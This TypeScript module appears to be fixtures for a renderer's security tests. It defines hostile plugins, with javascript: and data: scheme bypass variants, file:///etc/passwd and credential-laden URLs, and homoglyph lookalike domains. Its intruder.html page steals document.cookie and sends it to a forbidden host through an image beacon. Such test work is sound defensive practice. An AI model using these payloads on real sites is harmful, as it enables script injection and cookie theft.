/** Addresses that run a script, that carry a document, and that lead elsewhere than they look (rows R1, R2, R3, R11). */
import { addressed, nested, pressing } from "./everywhere.js";
import type { Evil, HostilePlugin } from "./stage.js";
import { api, around } from "./watch.js";

const hack = "alert(1);top.hacked=1;window.hacked=1";

/** The scheme written so that a check of the beginning of the text misses it, but a browser does not. */
export const scripts = [
  `javascript:${hack}`,
  `JaVaScRiPt:${hack}`,
  `JaVa\tScript:${hack}`,
  `java\nscript:${hack}`,
  `java\r\nscript:${hack}`,
  `\u0001javascript:${hack}`,
  `\u0000\u001f \tjavascript:${hack}`,
  `  javascript:${hack}`,
  `\tj\na\rv\ta\nscript\t:${hack}`,
  `javascript://%0a${hack}`,
  `javascript://localhost/%0a${hack}`,
  `javascript:/**/${hack}`,
  `vbscript:msgbox(1)`,
  `livescript:${hack}`,
  `view-source:javascript:${hack}`,
];

/** Looks like a script, but is a path: to a browser, and so to the renderer. */
export const inert = [
  `java&#10;script:${hack}`,
  `javascript&colon;${hack}`,
  `javascript%3A${hack}`,
  `java\u0000script:${hack}`,
  `\u00a0javascript:${hack}`,
  `\u2028javascript:${hack}`,
  `{trap}`,
  `./javascript:${hack}`,
  `?javascript:${hack}`,
];

const html = `<script>${hack}</script>`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${hack}"><script>${hack}</script></svg>`;

/** No page may show these, whatever they are for. */
export const documents = [
  `data:text/html,${html}`,
  `DATA:text/html;base64,${btoa(html)}`,
  ` da\tta:text/html,${html}`,
  `data:text/html;charset=utf-8,${html}`,
  `data:,${html}`,
  `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml">${html}</html>`,
  `data:text/xml,<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${hack}</h:script></x>`,
  `data:image/svg,${drawing}`,
  `data:image/svg+xmlx,${drawing}`,
  `data:image/png/../svg+xml,${drawing}`,
  "blob:https://localhost/00000000-0000-0000-0000-000000000000",
  "blob:null/00000000-0000-0000-0000-000000000000",
  "file:///etc/passwd",
  "file:etc/passwd",
  "filesystem:http://localhost/temporary/a.html",
  "about:blank",
  "about:srcdoc",
  "chrome://settings",
  "ws://localhost/",
  "ftp://localhost/",
  "intent://localhost/#Intent;scheme=http;end",
];

/** A picture runs nothing, so it may be drawn; as a page it may not be opened. */
export const drawings = [
  `data:image/svg+xml,${encodeURIComponent(drawing)}`,
  `data:image/svg+xml;base64,${btoa(drawing)}`,
  `DATA:IMAGE/SVG+XML;charset=utf-8,${encodeURIComponent(drawing)}`,
  `data:image/png;base64,${btoa(html)}`,
  `data:image/gif,${html}`,
];

/** Refused: they hold a name, or leave out the slashes that say where the host begins. */
export const odd = ({ port, forbidden }: Evil) => [
  forbidden("user").replace("//", "//dashboard.example@"),
  forbidden("password").replace("//", "//dashboard.example:443@"),
  forbidden("empty").replace("//", "//a:@"),
  `http:localhost:${port}/forbidden/none`,
  `https:localhost:${port}/forbidden/none`,
  `http:/localhost:${port}/forbidden/one`,
  `http:\\\\localhost:${port}/forbidden/back`,
  `http:\\/localhost:${port}/forbidden/mixed`,
  `ht\ntp:/localhost:${port}/forbidden/broken`,
  `http://localhost:${port}:80/forbidden/ports`,
  "http://",
  "http://[::1/forbidden",
  "//user@localhost/forbidden",
  "/\\user:x@localhost/forbidden",
];

/** Taken, since a reader may follow a link to anywhere: but marked, and without a word of where the reader comes from. */
export const strangers = ({ port, allowed }: Evil) => [
  allowed("plain"),
  `//localhost:${port}/allowed/relative`,
  `/\\localhost:${port}/allowed/back`,
  `\\\\localhost:${port}/allowed/two`,
  `\\/localhost:${port}/allowed/turned`,
  `/\t/localhost:${port}/allowed/tab`,
  `\n//localhost:${port}/allowed/line`,
  ` http://LOCALHOST:${port}/allowed/%2e%2e/allowed/blank`,
  `HtTp://localhost:${port}/allowed/case`,
];

export const lookalikes = ["https://аррӏе.com/", "//gооgle.com/login", "https://example.com\u2044path.invalid/"];

const links = (urls: readonly string[]) =>
  urls.flatMap((href, index) => [
    { type: "Link", props: { href, label: `link ${index}` } },
    { type: "Link", props: { href, label: `tab ${index}`, target: "_blank" } },
    { type: "Button", props: { label: `button ${index}`, onClickAction: { type: "navigate", url: href } } },
  ]);

const everyWay = (urls: readonly string[]) => [
  ...urls.flatMap((url, index) => addressed(url, String(index))),
  ...urls.slice(0, 3).flatMap((url, index) => pressing(url, String(index))),
  ...nested(urls.slice(0, 2).flatMap((url, index) => addressed(url, `inside ${index}`))),
  { type: "Button", props: { label: "Opens the dialog", onClickAction: { type: "open_modal", modalId: "dialog" } } },
  {
    type: "Modal",
    props: { id: "dialog" },
    children: urls.slice(0, 3).flatMap((url) => addressed(url, "in a dialog")),
  },
];

const frame = (props: object) => ({ type: "iframe", props: { height: 60, ...props } });

export const addressPlugins = (evil: Evil): Record<string, HostilePlugin> => ({
  r1: {
    pages: {
      ui: around("r1", everyWay(scripts)),
      inert: around("r1", [
        ...inert.map((href) => ({ type: "Link", props: { href, label: "link" } })),
        ...inert
          .slice(0, 3)
          .map((url) => ({ type: "Button", props: { label: "button", onClickAction: { type: "navigate", url } } })),
      ]),
    },
    params: { trap: [`javascript:${hack}`] },
  },
  r2: {
    pages: {
      ui: around("r2", everyWay(documents)),
      drawings: around("r2", [
        ...links(drawings),
        ...drawings.map((src) => frame({ src, title: "frame" })),
        ...drawings.map((src) => ({ type: "Image", props: { src, alt: "picture", width: 20 } })),
      ]),
    },
  },
  r3: {
    pages: {
      ui: around("r3", everyWay(odd(evil))),
      strangers: around("r3", [
        ...links(strangers(evil)),
        ...strangers(evil).map((url) => ({ type: "Image", props: { src: `${url}.gif`, alt: "picture" } })),
        ...nested([{ type: "Link", props: { href: evil.allowed("nested"), label: "nested" } }]),
      ]),
      lookalikes: around(
        "r3",
        lookalikes.map((href) => ({ type: "Link", props: { href } })),
      ),
    },
  },
  r11: {
    pages: {
      ui: around("r11", [
        frame({
          src: evil.allowed("intruder"),
          title: "Intruder",
          sandbox: "allow-same-origin allow-scripts allow-top-navigation allow-popups allow-modals",
          allow: "camera; microphone; geolocation; clipboard-read",
          srcdoc: `<script>${hack}</script>`,
          srcDoc: `<script>${hack}</script>`,
          name: "top",
          allowFullScreen: true,
          referrerPolicy: "unsafe-url",
          referrerpolicy: "unsafe-url",
          credentialless: false,
          onLoad: hack,
          onload: hack,
          dangerouslySetInnerHTML: { __html: html },
        }),
        frame({ srcdoc: html, title: "Only a srcdoc" }),
        frame({ src: api("r11", "intruder.html"), title: "From its own back end" }),
        frame({ src: "/", title: "The dashboard itself" }),
        frame({ src: "/favicon.svg", title: "A file of the dashboard" }),
        { type: "Link", props: { href: api("r11", "intruder.html"), label: "Its own HTML" } },
        { type: "Link", props: { href: api("r11", "intruder.svg"), label: "Its own SVG" } },
        { type: "Image", props: { src: api("r11", "intruder.svg"), alt: "Its own SVG as a picture" } },
      ]),
    },
    answers: {
      "intruder.html": {
        headers: { "content-type": "text/html" },
        text: `<!doctype html><script>
          try { document.cookie = "stolen=1"; } catch {}
          try { localStorage.setItem("stolen", "1"); } catch {}
          try { opener.hacked = parent.hacked = top.hacked = 1; } catch {}
          try { parent.hacked = top.hacked = 1; } catch {}
          try { fetch("${api("victim", "echo")}", { method: "POST", body: "stolen" }); } catch {}
          try { new Image().src = "${evil.forbidden("cookie")}?" + document.cookie; } catch {}
        </script><form method="post" action="${api("victim", "echo")}"><button>Send</button></form>
        <script>try { document.forms[0].submit(); } catch {}</script>`,
      },
      "intruder.svg": { headers: { "content-type": "image/svg+xml" }, text: drawing },
    },
  },
});
